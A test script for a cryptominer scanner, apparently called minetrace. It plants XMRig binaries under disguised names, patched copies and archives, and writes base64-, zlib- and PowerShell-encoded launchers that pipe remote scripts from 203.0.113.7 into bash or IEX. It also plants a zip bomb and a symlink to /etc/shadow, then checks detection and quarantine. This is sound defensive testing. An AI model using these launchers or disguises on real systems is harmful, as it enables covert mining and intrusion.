#!/bin/sh
# run.sh - scan --content on trees built the way real incidents look: the real XMRig
# under system names, a copy with every "xmrig" string patched away, in a tar.gz, in a
# zip, in a Docker overlay2 layer (container and image named), the real xmrig.exe in a
# Samba share, miner configurations under innocent names (JSON and INI), base64 and
# gzip-wrapped launchers (shell, Python, PowerShell), a zip bomb, hostile entries (FIFO,
# symlinks out of the root); beside them defenders' files (YARA rule sets, maltrail IOC
# lists, Suricata rules, minetrace's own rules), documentation and a developer's checkout
# with a test fixture: the first all found, the others never high.
set -u
MT=${MINETRACE:-build/minetrace}
here=$(cd "$(dirname "$0")" && pwd)
DATA=${MINETRACE_DATA:-$here/../../../shared/data}
[ -d "$DATA/samples" ] || DATA=/work/shared/data
fail() { echo "FAIL content: $*"; exit 1; }
[ -f "$DATA/samples/xmrig" ] || { echo "SKIP content: no samples in $DATA"; exit 0; }
MT=$(cd "$(dirname "$MT")" && pwd)/$(basename "$MT")
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
trap 'exit 130' INT TERM HUP
R=$work/root
mkdir -p "$R/etc" "$R/usr/bin" "$R/usr/sbin" "$R/var/spool/cron" "$R/root" "$R/home/dev"
echo "CentOS Linux release 7.9.2009 (Core)" >"$R/etc/redhat-release"
printf 'root:x:0:0:root:/root:/bin/bash\ndev:x:1000:1000::/home/dev:/bin/bash\n' >"$R/etc/passwd"
X=$DATA/samples/xmrig
XE=$DATA/samples/xmrig.exe

# 1. the real XMRig under system names, one run from cron
cp "$X" "$R/usr/bin/kthreaddk"
chmod 755 "$R/usr/bin/kthreaddk"
echo '*/5 * * * * /usr/bin/kthreaddk -B' >"$R/var/spool/cron/root"
# 2. every xmrig/XMRig string patched to another word of the same length
python3 - "$X" "$R/usr/sbin/dhpcd" <<'EOT'
import re, sys
d = open(sys.argv[1], "rb").read()
d = re.sub(rb"(?i)xmrig", lambda m: bytes((b"kubed"[i] if m.group(0)[i] > 0x60 else b"KUBED"[i]) for i in range(5)), d)
assert d.lower().count(b"xmrig") == 0
open(sys.argv[2], "wb").write(d)
EOT
chmod 755 "$R/usr/sbin/dhpcd"
# 3. in a tar.gz and 4. in a zip (the Windows build) under a web upload directory
mkdir -p "$work/pkg/xmrig-6.16.0" "$R/root/.cache" "$R/var/www/html/upload"
cp "$X" "$work/pkg/xmrig-6.16.0/systemd-helper"
tar -C "$work/pkg" -czf "$R/root/.cache/update.tar.gz" xmrig-6.16.0
mkdir -p "$work/zip/tools"
cp "$XE" "$work/zip/tools/WmiPrvSE.exe"
(cd "$work/zip" && zip -q -r "$R/var/www/html/upload/backup.zip" tools) || fail "zip"
# 5. a Docker overlay2 layer: a container's writable layer holds the miner
L1=4f0e7b0b1e9b3a2f2d5f6a7c8e9d0a1b2c3d4e5f60718293a4b5c6d7e8f90a1b
CW=9a8b7c6d5e4f30211203405060708090a0b0c0d0e0f101112131415161718191
CID=3c1e0f5d2b4a69788796a5b4c3d2e1f00112233445566778899aabbccddeeff0
IMG=5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c
DIFF=sha256:1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e8f90a
D=$R/var/lib/docker
mkdir -p "$D/overlay2/$L1/diff/usr/share/nginx" "$D/overlay2/$CW/diff/usr/local/bin" \
	"$D/image/overlay2/layerdb/sha256/${DIFF#sha256:}" "$D/image/overlay2/layerdb/mounts/$CID" \
	"$D/image/overlay2/imagedb/content/sha256" "$D/containers/$CID"
echo "<html>nginx</html>" >"$D/overlay2/$L1/diff/usr/share/nginx/index.html"
cp "$X" "$D/overlay2/$CW/diff/usr/local/bin/nginx-worker"
printf '%s' "$L1" >"$D/image/overlay2/layerdb/sha256/${DIFF#sha256:}/cache-id"
printf '%s' "$DIFF" >"$D/image/overlay2/layerdb/sha256/${DIFF#sha256:}/diff"
printf '%s' "$CW" >"$D/image/overlay2/layerdb/mounts/$CID/mount-id"
printf '{"architecture":"amd64","rootfs":{"type":"layers","diff_ids":["%s"]}}' "$DIFF" \
	>"$D/image/overlay2/imagedb/content/sha256/$IMG"
printf '{"Repositories":{"nginx":{"nginx:1.25":"sha256:%s"}}}' "$IMG" >"$D/image/overlay2/repositories.json"
printf '{"ID":"%s","Name":"/web-frontend","Image":"sha256:%s","Config":{"Image":"nginx:1.25"}}' \
	"$CID" "$IMG" >"$D/containers/$CID/config.v2.json"
# 6. the real xmrig.exe in a Samba share that Windows clients open
mkdir -p "$R/etc/samba" "$R/srv/samba/public/Software"
printf '[global]\n   workgroup = CORP\n[Public Files]\n   path = /srv/samba/public\n   read only = no\n' >"$R/etc/samba/smb.conf"
cp "$XE" "$R/srv/samba/public/Software/SetupHelper.exe"
# 7. miner configurations under innocent names: the shipped JSON, and an INI one
mkdir -p "$R/var/lib/php/sessions" "$R/opt/app/conf"
cp "$DATA/samples/xmrig-config.json" "$R/var/lib/php/sessions/sess_8f2a"
WALLET=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A
cat >"$R/opt/app/conf/settings.ini" <<EOF
[pool]
url = stratum+tcp://pool.supportxmr.com:443
user = $WALLET
pass = x
[cpu]
threads = 2
EOF
# 8. launchers wrapped in base64 (shell), zlib+base64 (Python), UTF-16 base64 (PowerShell)
mkdir -p "$R/etc/profile.d" "$R/var/tmp"
inner='curl -fsSL http://203.0.113.7/xm.sh | bash; nohup /tmp/.x/kswapd0 -o pool.minexmr.com:4444 -u '$WALLET' &'
b64=$(printf '%s' "$inner" | base64 -w0)
printf '#!/bin/sh\necho %s | base64 -d | sh\n' "$b64" >"$R/etc/profile.d/locale-update.sh"
python3 - "$R/var/tmp/.cache.py" "$inner" <<'EOT'
import base64, sys, zlib
p = base64.b64encode(zlib.compress(("import os\nos.system(%r)\n" % sys.argv[2]).encode())).decode()
open(sys.argv[1], "w").write("import zlib, base64\nexec(zlib.decompress(base64.b64decode('%s')))\n" % p)
EOT
python3 - "$R/srv/samba/public/Software/update.ps1" <<'EOT'
import base64, sys
cmd = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/xmrig.ps1')"
open(sys.argv[1], "w").write("powershell -NoP -W Hidden -EncodedCommand %s\n" % base64.b64encode(cmd.encode("utf-16-le")).decode())
EOT
# 9. a zip bomb: 1 GiB of zeros in one member
python3 - "$R/var/tmp/report.zip" <<'EOT'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as z:
    with z.open("report.bin", "w", force_zip64=True) as f:
        block = b"\0" * (1 << 20)
        for _ in range(1024):
            f.write(block)
EOT
# 10. hostile entries: a FIFO, links that point out of the root
mkfifo "$R/var/tmp/pipe"
ln -s /etc/shadow "$R/root/shadow-link"
ln -s / "$R/root/root-link"
# the defenders' side: YARA rule sets, IOC lists, IDS rules, minetrace's own rules
mkdir -p "$R/opt/yara" "$R/opt/maltrail/trails" "$R/etc/suricata/rules" "$R/usr/share/minetrace"
cp -r "$DATA/yara/." "$R/opt/yara/"
cp -r "$DATA/ioc/maltrail/." "$R/opt/maltrail/trails/"
cp "$here/../../rules/"*.rules "$here/../../rules/miners.yar" "$R/usr/share/minetrace/"
cat >"$R/etc/suricata/rules/mining.rules" <<'EOF'
alert tcp $HOME_NET any -> $EXTERNAL_NET any (msg:"ET POLICY Cryptocurrency Miner Checkin"; content:"{|22|id|22 3a|"; content:"|22|method|22 3a 22|login|22|"; content:"|22|agent|22 3a 22|XMRig"; sid:2024792; rev:3;)
alert dns $HOME_NET any -> any any (msg:"ET POLICY DNS Query to pool.supportxmr.com"; dns.query; content:"pool.supportxmr.com"; sid:2028888; rev:1;)
EOF
mkdir -p "$R/usr/share/doc/xmrig"
printf '# XMRig\nRun: xmrig -o stratum+tcp://pool.supportxmr.com:443 -u %s -p x\n' "$WALLET" >"$R/usr/share/doc/xmrig/README.md"
# a developer's checkout with a test fixture that holds a wallet
mkdir -p "$R/home/dev/src/poolmon/.git" "$R/home/dev/src/poolmon/tests/fixtures"
cat >"$R/home/dev/src/poolmon/tests/fixtures/miner.conf" <<EOF
url = stratum+tcp://pool.supportxmr.com:443
user = $WALLET
threads = 1
EOF
chown -R 1000:1000 "$R/home/dev"

rc=0
timeout 300 "$MT" scan --content --root "$R" --jobs 2 --format json >"$work/out.jsonl" 2>"$work/err" || rc=$?
[ $rc -eq 1 ] || { cat "$work/err"; fail "exit $rc, expected 1"; }
python3 "$here/../scenario/contract.py" "$work/out.jsonl" || fail "contract"
python3 - "$work/out.jsonl" <<'EOT' || fail "see above"
import json, sys
objs = [json.loads(l) for l in open(sys.argv[1])]
f = [o for o in objs if o["type"] == "finding" and o["check"] == "content.files"]
by = {}
for o in f:
    by.setdefault(o["evidence"]["path"], []).append(o)
def one(path, sev, what=None):
    got = by.get(path)
    assert got, "%s not reported; reported: %s" % (path, sorted(by))
    o = max(got, key=lambda o: ["info", "low", "medium", "high", "critical"].index(o["severity"]))
    assert o["severity"] == sev, "%s: %s, want %s (%s)" % (path, o["severity"], sev, o["evidence"])
    if what:
        assert o["evidence"]["what"] == what, "%s: %s" % (path, o["evidence"])
    return o
o = one("/usr/bin/kthreaddk", "critical", "miner")
assert o["evidence"]["sha256"] == "9c10c46476fe17167237c99b66b18d875ed95db9cde1a8e4d5f43f83e0daff26"
assert any(a["action"] == "quarantine_file" for a in o["remedy"]), o["remedy"]
o = one("/usr/sbin/dhpcd", "critical", "miner")
assert "randomx_consts" in o["evidence"]["reasons"] and "name_xmrig" not in o["evidence"]["reasons"], o["evidence"]
o = one("/root/.cache/update.tar.gz", "critical", "miner")
assert o["evidence"]["member"] == "xmrig-6.16.0/systemd-helper", o["evidence"]
o = one("/var/www/html/upload/backup.zip", "critical", "miner")
assert o["evidence"]["member"] == "tools/WmiPrvSE.exe", o["evidence"]
o = one("/var/lib/docker/overlay2/9a8b7c6d5e4f30211203405060708090a0b0c0d0e0f101112131415161718191/diff/usr/local/bin/nginx-worker", "critical", "miner")
ev = o["evidence"]
assert ev.get("container", "").startswith("3c1e0f5d2b4a"), ev
assert ev.get("container_name") == "/web-frontend" and ev.get("image") == "nginx:1.25", ev
assert ev.get("layer_kind") == "container", ev
o = one("/srv/samba/public/Software/SetupHelper.exe", "critical", "miner")
assert o["evidence"].get("share") == "Public Files", o["evidence"]
o = one("/var/lib/php/sessions/sess_8f2a", "high", "miner_config")
assert o["evidence"]["pool"] == "xmrpool.eu:9999", o["evidence"]
o = one("/opt/app/conf/settings.ini", "high", "miner_config")
assert o["evidence"]["wallet"].startswith("44AFFq5kSiGBoZ4N"), o["evidence"]
o = one("/etc/profile.d/locale-update.sh", "critical")
assert o["evidence"]["decoded"] == "base64", o["evidence"]
o = one("/var/tmp/.cache.py", "critical")
assert o["evidence"]["decoded"] == "base64+zlib", o["evidence"]
o = one("/srv/samba/public/Software/update.ps1", "critical")
assert o["evidence"]["decoded"] == "powershell -e", o["evidence"]
o = one("/var/tmp/report.zip", "medium")
assert "archive_bomb" in o["evidence"]["reasons"], o["evidence"]
# the defenders' files, the documentation and the checkout's fixture: never high
rank = ["info", "low", "medium", "high", "critical"]
for p, got in by.items():
    if p.startswith(("/opt/yara/", "/opt/maltrail/", "/etc/suricata/", "/usr/share/minetrace/", "/usr/share/doc/", "/home/dev/")):
        for o in got:
            assert rank.index(o["severity"]) <= rank.index("low"), "%s: %s %s" % (p, o["severity"], o["evidence"])
fix = by.get("/home/dev/src/poolmon/tests/fixtures/miner.conf")
assert fix and fix[0]["severity"] == "low", fix
# every other finding at high or above is one of the planted ones
planted = {"/usr/bin/kthreaddk", "/usr/sbin/dhpcd", "/root/.cache/update.tar.gz", "/var/www/html/upload/backup.zip",
           "/srv/samba/public/Software/SetupHelper.exe", "/var/lib/php/sessions/sess_8f2a", "/opt/app/conf/settings.ini",
           "/etc/profile.d/locale-update.sh", "/var/tmp/.cache.py", "/srv/samba/public/Software/update.ps1"}
extra = [p for p, got in by.items() if p not in planted and not p.startswith("/var/lib/docker/") and any(rank.index(o["severity"]) >= 3 for o in got)]
assert not extra, "high findings beyond the planted ones: %s" % extra
s = [o for o in objs if o["type"] == "summary"][0]
assert any("content.files:" in d and "judged by content" in d for d in s["diagnostics"]), s["diagnostics"]
print("content: %d files reported; miner (plain, patched, tar.gz, zip, overlay2, Samba), configs, 3 wrapped launchers, the bomb found; defenders' files, docs, the checkout not high" % len(by))
EOT
# the respond plan takes what content found: the miners quarantined by their hash (the
# archive that holds one), the text-only lows left alone; --apply on a copy, and restore
cp -a "$R" "$work/copy"
"$MT" respond "$work/out.jsonl" --root "$work/copy" --format json >"$work/plan.json" 2>"$work/plan.err" ||
	{ cat "$work/plan.err"; fail "respond (plan)"; }
python3 - "$work/plan.json" <<'EOT' || fail "the respond plan"
import json, sys
txt = open(sys.argv[1]).read()
paths = set()
for l in txt.splitlines():
    l = l.strip()
    if not l:
        continue
    o = json.loads(l)
    for st in (o.get("steps") or [o]):
        if isinstance(st, dict) and st.get("action") == "quarantine_file":
            paths.add(st.get("target"))
for p in ("/usr/bin/kthreaddk", "/usr/sbin/dhpcd", "/root/.cache/update.tar.gz", "/srv/samba/public/Software/SetupHelper.exe"):
    assert p in paths, "%s not quarantined in the plan: %s" % (p, sorted(paths))
assert "/home/dev/src/poolmon/tests/fixtures/miner.conf" not in paths, "a low fixture in the plan"
print("content: the respond plan quarantines %d files found by content" % len(paths))
EOT
rc=0
"$MT" respond "$work/out.jsonl" --root "$work/copy" --apply --no-verify >"$work/apply.out" 2>&1 || rc=$?
[ $rc -eq 0 ] || { tail -20 "$work/apply.out"; fail "respond --apply: exit $rc"; }
[ ! -e "$work/copy/usr/sbin/dhpcd" ] || fail "the patched miner is still there after --apply"
id=$("$MT" restore --list --root "$work/copy" 2>/dev/null | awk '/usr\/sbin\/dhpcd/ { print $1; exit }')
[ -n "$id" ] || fail "no quarantine entry for the patched miner"
"$MT" restore "$id" --root "$work/copy" >"$work/restore.out" 2>&1 || { tail -5 "$work/restore.out"; fail "restore $id"; }
cmp -s "$work/copy/usr/sbin/dhpcd" "$R/usr/sbin/dhpcd" || fail "restore did not bring the patched miner back"
# the community rule sets load and match with their rule names
rc=0
"$MT" scan --content --root "$R" --checks content.files --rules "$DATA/yara" --format json >"$work/yara.jsonl" 2>"$work/yara.err" || rc=$?
[ $rc -eq 1 ] || { cat "$work/yara.err"; fail "with --rules $DATA/yara: exit $rc"; }
python3 - "$work/yara.jsonl" <<'EOT' || fail "community YARA rules"
import json, sys
f = [json.loads(l) for l in open(sys.argv[1])]
f = [o for o in f if o["type"] == "finding"]
k = [o for o in f if o["evidence"]["path"] == "/usr/bin/kthreaddk"][0]
y = k["evidence"].get("yara", "")
assert "signature-base/" in y or "yara-rules/" in y, "no community rule matched the real XMRig: %s" % y
print("content: the community rule sets load; on the real XMRig: %s" % y)
EOT
# a broken rule file is an error that names the file and the line
printf 'rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n' >"$work/bad.yar"
rc=0
"$MT" scan --content --root "$R" --rules "$work/bad.yar" >/dev/null 2>"$work/bad.err" || rc=$?
[ $rc -eq 2 ] || fail "a broken YARA file: exit $rc, expected 2"
grep -q "bad.yar:[34]: undefined string" "$work/bad.err" || { cat "$work/bad.err"; fail "the broken YARA file's line is not named"; }
# on a terminal a progress line (files, bytes, rate) goes to standard error
if command -v script >/dev/null 2>&1; then
	script -qec "'$MT' scan --content --root '$R' --checks content.files --format json --output '$work/tty.jsonl'" \
		"$work/tty.typescript" >/dev/null 2>&1 || true
	grep -a -q "minetrace: content: [0-9]* files, .*/s" "$work/tty.typescript" ||
		fail "no progress line on a terminal"
	[ -s "$work/tty.jsonl" ] || fail "no report with --output under a terminal"
fi
# without --content the content checks stay out of the normal scan
"$MT" scan --root "$R" --format json >"$work/plain.jsonl" 2>/dev/null
grep -q '"check":"content.files"' "$work/plain.jsonl" && fail "content.files ran without --content"
echo "content: all passed"
